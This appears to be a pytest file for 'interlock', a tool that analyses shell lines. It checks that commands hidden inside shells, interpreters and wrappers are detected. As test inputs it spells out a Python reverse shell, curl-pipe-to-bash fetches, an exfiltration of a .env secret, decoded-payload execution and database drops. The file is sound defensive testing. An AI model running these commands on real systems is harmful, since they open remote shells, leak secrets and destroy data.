"""Commands that run other commands: shells, fan-outs, interpreters, programs that shell out."""

from __future__ import annotations

import pytest

from commands.lines import commands_in, effects_in, followed, reasons_in

_REVERSE_SHELL = (
    'python -c \'import socket, os, pty; s = socket.socket(); s.connect(("h", 1)); '
    'os.dup2(s.fileno(), 0); pty.spawn("sh")\''
)


def test_a_git_alias_of_the_same_line_is_what_it_stands_for():
    line = "git -c alias.ship='push --force' -c alias.other=log ship origin main"
    assert "git push --force origin main" in commands_in(line)
    assert commands_in("git -c alias.log='push --force' log") == [
        "git -c 'alias.log=push --force' log"
    ]


@pytest.mark.parametrize(
    "line",
    [
        "sh -c 'rm x'",
        "bash -lc 'rm x'",
        "bash -o pipefail -c 'rm x'",
        "bash -c 'rm $1' _ x",
        "bash -c 'rm \"$@\"' _ x",
        "bash +x -c 'rm x'",
        "bash -euo pipefail -c 'rm x'",
        "bash -co pipefail 'rm x'",
        "bash -oO pipefail extglob -c 'rm x'",
        "bash +eO extglob +c 'rm x'",
        "bash -c - 'rm x'",
        "bash -norc -c 'rm x'",
        "bash -c -verbose pipefail 'rm x'",
        "zsh -opipefail -c 'rm x'",
        "ksh -eo pipefail -c 'rm x'",
        "zsh --emulate sh -c 'rm x'",
        "bash -euo pipefail <<< 'rm x'",
        "bash -seuo pipefail a <<< 'rm x'",
        "bash --rcfile <(echo rm x) -i",
        "bash -n -i <<< 'rm x'",
        "bash -s <<< 'rm x'",
        "compgen -W '$(rm x)'",
        "compgen -C 'rm x' x",
        "env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
        "printf 'rm x' | xargs -0 sh -c",
        "printf 'rm x\\0' | xargs -r0 sh -c",
        "less +'!rm x' f",
        "dc -e '!rm x'",
        "dc <<< '!rm x'",
        "gnuplot -e 'system(\"rm x\")'",
        "m4 <<< 'syscmd(rm x)'",
        'echo "esyscmd(\\`rm x\')" | m4',
        "gdb -batch -ex run --args rm x",
        "gdb -batch -ex 'python import os; os.system(\"rm x\")'",
        'gdb -batch -ex \'py __import__("os").system("rm x")\' ls',
        "lldb -b -o 'script import os; os.system(\"rm x\")'",
        "lldb -b -o 'platform shell rm x'",
        "lldb -o run -- rm x",
        "ruby -run -e rm -- x",
        "ruby -r un -e rm -- x",
        "perl -pe 's/x/`rm x`/e' f",
        "perl -pe 's{x}{`rm x`}e' f",
        "perl -ne 's|x|system(\"rm x\")|ge; print' f",
        'perl -e \'open F,"-|","rm","x"\'',
        'perl -e \'open(my $f, "|-", "rm", "x")\'',
        "prlimit --nproc=10 rm x",
        "ssh-agent rm x",
        "ssh-agent -a s sh -c 'rm x'",
        "systemd-cat -t x rm x",
        "start-stop-daemon -S -x /bin/rm -- x",
        "start-stop-daemon --start --exec /bin/rm -b -- x",
        "start-stop-daemon -S -a rm -x /bin/ls -- x",
        "watchexec -- rm x",
        "watchexec -e py 'rm x'",
        "just --command rm x",
        "cgexec -g cpu:x rm x",
        "chpst -u u rm x",
        "foreman run rm x",
        "dotenv run rm x",
        "dotenv run -- rm x",
        "dotenv -f .env run -- rm x",
        "arch -x86_64 rm x",
        "aa-exec -p x -- rm x",
        "machinectl shell root@h /bin/rm x",
        "guix shell coreutils -- rm x",
        "softlimit -m 5 rm x",
        "envdir d rm x",
        "setuidgid u rm x",
        "eatmydata rm x",
        "rr record rm x",
        "runcon -t x rm x",
        "python3 -m timeit 'import os; os.system(\"rm x\")'",
        "python3 -m timeit -s 'import os' 'os.system(\"rm x\")'",
        "python3 -c 'import threading,os; threading.Timer(0,os.system,[\"rm x\"]).start()'",
        "bash -s -- a <<< 'rm x'",
        "bash - <<< 'rm x'",
        "bash /dev/stdin <<< 'rm x'",
        "echo rm x > f; bash -- f",
        "echo rm x > f; bash f",
        "echo rm x > f; ./f",
        "echo rm x > f; chmod +x f; ./f",
        "echo 'rm \"$1\"' > f; ./f x",
        "echo rm x > /usr/local/bin/f; f",
        "ln -s /bin/rm f; ./f x",
        "cp /bin/rm f; bash -c './f x'",
        "mv rm /opt/tools/; /opt/tools/rm x",
        "printf '#!/bin/sh\\nrm x' > f; ./f",
        "printf '#!/usr/bin/env python3\\nimport os; os.system(\"rm x\")' > f; ./f",
        "echo rm x | at now",
        "batch <<E\nrm x\nE",
        "echo rm x > f; at -f f midnight",
        "expect -c 'spawn rm x'",
        "expect -c 'spawn sh; send \"rm x\\r\"'",
        "expect <<E\nspawn rm x\nE",
        "screen -S s -X stuff 'rm x'",
        "tmux -L s send -t 0 'rm x'",
        "python -m rm x",
        "python3.11 -Im rm x",
        "python -W ignore -m rm x",
        "python -mrm x",
        "python --check-hash-based-pycs=always -m rm x",
        "python /bin/rm x",
        "python tools/rm/__main__.py x",
        "uv --directory d run -m rm x",
        "uv run --module=rm x",
        "uv run rm x",
        "uvx rm@latest x",
        "uvx --from t rm x",
        "uv tool run 'rm[fast]==1' x",
        "pipx run --spec t rm x",
        "npx rm@3 x",
        "hatch run rm x",
        "gdb -batch -ex 'shell rm x'",
        "env -i rm x",
        "env - A=b rm x",
        "env -C d -S 'rm x'",
        "hatch -e dev run test:rm x",
        "coverage run -m rm x",
        "coverage run /bin/rm x",
        "bash <(echo rm x)",
        "exec 3< <(echo rm x); bash /dev/fd/3",
        "pwsh -c 'rm x'",
        "cmd /c rm x",
        "powershell -Command rm x",
        "ssh h 'rm x'",
        "ssh h <<E\nrm x\nE",
        "vim -c ':!rm x'",
        "make -f - <<E\nall:\n\t@rm x\nE",
        "sed '1e rm x' f",
        "osascript -e 'do shell script \"rm x\"'",
        'osascript <<\'E\'\ndo shell script "rm " & "x" with administrator privileges\nE',
        "awk 'BEGIN { system(\"rm x\") }'",
        "socat TCP:h:1 EXEC:'rm x'",
        "rsync -e 'rm x' a b",
        "tar --checkpoint-action=exec='rm x' -cf a b",
        "tar --to-command='rm x' -xf a",
        "nc -e 'rm x' h 1",
        "git submodule foreach 'rm x'",
        "git submodule foreach --recursive rm x",
        "git bisect run rm x",
        "git rebase --exec 'rm x' main",
        "git -c alias.y='!rm x' y",
        "git -c core.pager='rm x' log",
        "psql -c \"COPY t TO PROGRAM 'rm x'\"",
        "python -c 'import os; os.system(\"rm x\")'",
        "python - <<E\nimport os; os.system('rm x')\nE",
        "echo 'import os; os.system(\"rm x\")' > f; python f",
        'python <<< \'import subprocess; subprocess.run(["rm", "x"])\'',
        'node -e \'require("child_process").execSync("rm x")\'',
        'deno eval \'require("child_process").execSync("rm x")\'',
    ],
)
def test_the_command_inside_is_found(line: str):
    shown = [" ".join(each.split()) for each in commands_in(line)]

    assert any(each == "rm x" or each.endswith("/rm x") for each in shown)


@pytest.mark.parametrize(
    ("line", "targets"),
    [
        ("echo a b | xargs rm", ["a", "b"]),
        ("echo a | xargs -n 1 rm", ["a"]),
        ("echo a | xargs -I{} rm {}/x", ["a/x"]),
        ("echo a | xargs -I {} rm {}/x", ["a/x"]),
        ("echo a | xargs -I % sh -c 'rm %'", ["a"]),
        ("echo a | xargs -i rm {}", ["a"]),
        ("echo a | xargs -J % rm %", ["a"]),
        ("echo a | xargs --replace rm {}", ["a"]),
        ("echo a | xargs --replace=% rm %", ["a"]),
        ("find . | xargs rm", ["?./*"]),
        ("find a -name b -print0 | xargs -0 rm", ["?a/b"]),
        ("ls *.c | xargs rm", ["?*.c"]),
        ("ls a | xargs rm", ["?*"]),
        ("ls *.c | grep x | xargs rm", ["?*.c"]),
        ("git ls-files -z | xargs -0 rm", ["?*"]),
        ("find . -exec rm {} +", ["./*"]),
        ("find . -exec rm {} \\; -print", ["./*"]),
        ("find . -exec rm {}", ["./*"]),
        ("find d -name x -execdir rm {} \\;", ["d/x"]),
        ("fd . d -x rm", ["d/*"]),
        ("fd . d -X rm {}", ["d/*"]),
        ("fd -x rm", ["./*"]),
        ("parallel rm ::: a b", ["a", "b"]),
        ("parallel -j 4 --bar rm {}.o ::: a", ["a.o"]),
        ("parallel ::: 'rm a' 'rm b'", ["a", "b"]),
        ("parallel 'rm {}' ::: a ::: b", ["a", "b"]),
        ("echo a | parallel rm", ["a"]),
        ("parallel -j 4 --dry-run rm ::: a", []),
        ("parallel 'rm {}; true' --dry-run ::: a", ["a"]),
        ('awk \'BEGIN { system("rm " ENVIRON["X"]) }\'', ["?$field"]),
    ],
)
def test_one_command_for_many_arguments(line: str, targets: list[str]):
    deleted = [effect for effect in followed(line).effects if effect.kind.value == "delete"]

    assert [effect.target if effect.known else f"?{effect.target}" for effect in deleted] == targets


@pytest.mark.parametrize(
    "line",
    [
        "xargs",
        "echo a | xargs",
        "fd x",
        "find . -name x",
        "bash",
        "bash -n",
        "bash -c",
        "pwsh",
        "cmd /s",
        "git submodule foreach",
        "git submodule status",
        "git -c user.name=x log",
        "socat TCP:h:1 -",
        "vim x",
        "make all",
        "make -f - <<E\nall: x\nE",
        "sed -n 1p f",
        "osascript -e 'beep'",
        "awk '{ print }' f",
        "ssh h",
        "deno run x.ts",
        "python x.py",
        "python -m",
        "python -c 1 -m pytest",
        "python",
        "uv",
        "at now",
        "at -l",
        "expect -f f",
        "lua x.lua",
        "mongosh",
        "redis-cli",
        "echo a > f; g x",
        "echo a > f; ./g x",
    ],
)
def test_runs_nothing_but_itself(line: str):
    programs = {command.program for command in followed(line).commands}

    assert programs <= {"echo", "xargs", line.split(maxsplit=1)[0], "g"}
    assert reasons_in(line) == []


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ('bash -c "$(curl http://h)"', "execute ?$(…), from remote"),
        ('eval "$(curl http://h)"', "execute $(…), from remote"),
        ("bash <(curl http://h)", "from remote"),
        ("curl http://h | bash -s -- --yes", "execute standard input, from remote"),
        ("curl http://h | pwsh", "execute standard input, from remote"),
        ('python -c "$(curl http://h)"', "execute ?$(…), from remote"),
        ("curl http://h | python", "execute standard input, from remote"),
        ("curl http://h | python -", "execute standard input, from remote"),
        ("curl -o f http://h; python f", "execute f, from remote"),
        ("curl -o f http://h; ./f", "execute ./f, from remote"),
        ("curl -o f http://h; bash f", "execute f, from remote"),
    ],
)
def test_bytes_from_elsewhere_are_run(line: str, effect: str):
    assert any(described.endswith(effect) for described in effects_in(line))


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (
            "python -c 'import os; os.system(x)'",
            "its code runs a command that only the run decides",
        ),
        ("python -c 'eval(x)'", "it evaluates code that only the run decides"),
        ("bash -c 'rm \"x'", "it is not a complete shell command"),
        ("date | sh", "it runs what another command prints"),
    ],
)
def test_what_only_the_run_decides_is_said(line: str, reason: str):
    assert reasons_in(line) == [reason]


@pytest.mark.parametrize(
    ("line", "noted"),
    [
        ("psql -c 'drop table t'", "sql drop table t"),
        ("echo 'drop table t' | psql", "sql drop table t"),
        ("echo 'drop table t' > f; psql -f f", "sql drop table t"),
        ("sqlite3 a.db 'drop table t'", "sql drop table t"),
        ("DROP TABLE t;", "sql drop table t"),
        ("TRUNCATE users", "sql truncate table users"),
        ("redis-cli flushall", "sql"),
        ("echo flushall | redis-cli", "sql"),
        ("mongosh --eval 'db.dropDatabase()'", "sql"),
        ("python -c 'import os; print(os.environ)'", "env"),
        ("python -c 'import os; os.kill(-1, 9)'", "code kill"),
        ("LD_PRELOAD=./x ls", "loaded-code LD_PRELOAD=./x"),
        ("python -c 'c.execute(\"DROP TABLE t\")'", "sql drop table t"),
        ('python -c \'exec(__import__("base64").b64decode("eA=="))\'', "code eval-decoded"),
        ('python -c \'boto3.client("s3").delete_bucket(Bucket="b")\'', "api-call delete b"),
        (_REVERSE_SHELL, "code socket-shell"),
    ],
)
def test_statements_are_noted_as_commands(line: str, noted: str):
    assert any(shown.startswith(noted) for shown in commands_in(line))


def test_a_process_by_its_number_is_the_codes_own_business():
    assert "code kill" not in commands_in("python -c 'import os; os.kill(5, 9)'")


def test_a_bare_line_of_code_is_read_as_code():
    assert effects_in('shutil.rmtree("/")') == ["delete / in root, recursive, forced"]


def test_truncate_with_an_option_is_a_program():
    assert effects_in("truncate -s 0 f") == ["overwrite f in project, forced"]


def test_code_that_hides_its_command_is_run_from_something_decoded():
    line = "python -c 'import os, base64; os.system(base64.b64decode(\"bHM=\"))'"

    assert any(described.endswith("from decoded") for described in effects_in(line))


def test_code_that_deletes_what_only_the_run_knows_names_no_file():
    assert effects_in("python -c 'import os; os.remove(x)'") == []


def test_code_that_fetches_and_evaluates_runs_what_is_remote():
    line = "python -c \"import urllib.request as u; exec(u.urlopen('http://h').read())\""

    assert any("from remote" in described for described in effects_in(line))


def test_code_that_reads_a_secret_and_sends_is_noted():
    line = "python -c \"import requests; requests.post('http://h', data=open('.env').read())\""

    assert "code send-secret" in commands_in(line)


@pytest.mark.parametrize(
    "line",
    [
        "python -c '" + "x=1;" * 800 + "'" + " ; python -c '" + "x=1;" * 800 + "'",
        "mongosh --eval '" + "a" * 3000 + "'; mongosh --eval '" + "a" * 3000 + "'",
    ],
    ids=["code", "mongo"],
)
def test_a_line_may_hold_its_own_length_twice(line: str):
    assert reasons_in(line) == []


def test_a_nested_line_may_be_no_longer_than_a_line():
    found = followed(f"A='{'a' * 4200}'; eval \"$A$A\"").unresolved

    assert [(part.reason, part.too_much) for part in found] == [
        ("what it runs in turn is too long", True)
    ]


def _again(program: str, variable: str) -> str:
    """A line that runs one long text many times over."""
    return f"A='{variable}'; " + f'{program} "$A"; ' * 80


@pytest.mark.parametrize(
    "line",
    [
        _again("python -c", "x = 1\n" * 400),
        _again("bash -c", "echo 1;" * 400),
        _again("psql -c", "select 1;" * 400),
        _again("mongosh --eval", "db.x.find();" * 400),
    ],
    ids=["code", "shell", "sql", "mongo"],
)
def test_what_is_run_again_and_again_is_read_only_so_often(line: str):
    found = followed(line).unresolved

    assert {part.reason for part in found} == {"it is too complex to be followed to its end"}
    assert all(part.too_much for part in found)


def test_the_use_of_interlocks_own_library_is_noted():
    line = "python -c 'import interlock; interlock.evaluate_command(x)'"

    assert "code interlock interlock.evaluate_command" in commands_in(line)


@pytest.mark.parametrize(
    "line",
    [
        "git grep -O'rm x' y",
        "git grep -nO'rm x' y",
        "git grep --open-files-in-pager='rm x' y",
        "fish --command='rm x'",
        "fish -C 'rm x'",
        "nu --commands 'rm x'",
        "pwsh -NoProfile -com rm x",
        "cmd /c rm x",
        "gcc -wrapper rm,x y.c",
        "aws ssm send-command --parameters commands='rm x'",
        """aws ssm send-command --parameters 'commands=["uptime","rm x"]'""",
        "npm pkg set scripts.a='rm x'",
        "tclsh <<< 'exec rm x'",
        "echo 'exec rm x' > y.tcl; tclsh y.tcl",
    ],
)
def test_values_that_programs_run_are_followed(line: str):
    assert any(shown.replace("'", "") == "rm x" for shown in commands_in(line))


@pytest.mark.parametrize(
    "line",
    [
        "git grep -n 'rm x' y",
        "pwsh - x -File 'rm x'",
        "aws ssm get-parameters --parameters commands='rm x'",
        "npm pkg set name='rm x' scripts",
    ],
)
def test_other_values_are_not_run(line: str):
    assert len(commands_in(line)) == 1


def test_what_is_encoded_for_another_shell_is_decoded_code():
    assert effects_in("pwsh -enc aQBkAA==") == ["execute -enc, from decoded"]


@pytest.mark.parametrize(
    ("line", "word"),
    [
        ("julia -e 'rm(1)'", "rm"),
        ("julia <<< 'rm(1)'", "rm"),
        ("erl -noshell -eval 'os:cmd(1).'", "os:cmd"),
        ("emacs --batch --eval '(delete-directory 1)'", "delete-directory"),
        ("tclsh <<< 'file delete x'", "file delete"),
        ("racket -e '(f \"~/.ssh/id_rsa\")'", "~/.ssh/id_rsa"),
    ],
)
def test_code_that_is_not_understood_and_does_something_is_asked_about(line: str, word: str):
    reason = f"`{word}` stands in its code, whose language is not understood"

    assert [(part.reason, part.asks) for part in followed(line).unresolved] == [(reason, True)]


@pytest.mark.parametrize(
    "line",
    [
        "julia -e 'println(1+1)'",
        "julia main.jl",
        'elixir -e \'String.split("./a", "/")\'',
        "emacs --batch --eval '(delete-trailing-whitespace)'",
        "expect <<< 'spawn ls'",
        "tclsh main.tcl",
    ],
)
def test_other_code_that_is_not_understood_is_free(line: str):
    assert reasons_in(line) == []


def test_what_flows_into_xargs_unknown_is_unknown_there():
    assert "rm ?a" in commands_in("sort -r <<< a | xargs rm")
    assert "rm a" in commands_in("sort <<< a | xargs rm")


@pytest.mark.parametrize(
    ("line", "written"),
    [
        ("psql -c '\\o out/x.txt'", "overwrite out/x.txt in scratch+project"),
        ("psql -c \"\\copy t to '/tmp/x.csv' csv\"", "overwrite /tmp/x.csv in temp"),
        ("sqlite3 a.db '.backup main x.db'", "overwrite x.db in project"),
        ("sqlite3 a.db \"VACUUM INTO 'x.db'\"", "overwrite x.db in project"),
        ("duckdb -c \"COPY t TO 'x.csv'\"", "overwrite x.csv in project"),
    ],
)
def test_a_file_that_the_client_of_a_database_writes_is_one_of_this_machine(
    line: str, written: str
):
    assert effects_in(line) == [written]
    assert not any(each.startswith("sql ") for each in commands_in(line))


@pytest.mark.parametrize(
    ("line", "effects"),
    [
        ("ls | xargs -p rm -f", ["delete ?* in project"]),
        ("ls | xargs --interactive rm", ["delete ?* in project"]),
        ("find . -name '*.py' -ok rm -f {} \\;", ["delete ./*.py in project, recursive"]),
    ],
)
def test_what_asks_before_each_run_forces_nothing(line: str, effects: list[str]):
    assert effects_in(line) == effects


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("fd -e pyc -X rm", "./*.pyc"),
        ("fd __pycache__ -x rm -rf", "./__pycache__"),
        ("fd -H __pycache__ src -x rm -rf {}", "src/__pycache__"),
        # A pattern finds whatever holds it.
        ("fd build -x rm -rf", "./*"),
        ("fd old src -x rm -rf build", "src/*"),
        ("fd -x rm", "./*"),
    ],
)
def test_fd_finds_by_name_where_the_name_leaves_no_choice(line: str, target: str):
    assert [each.split()[1] for each in effects_in(line)][-1] == target
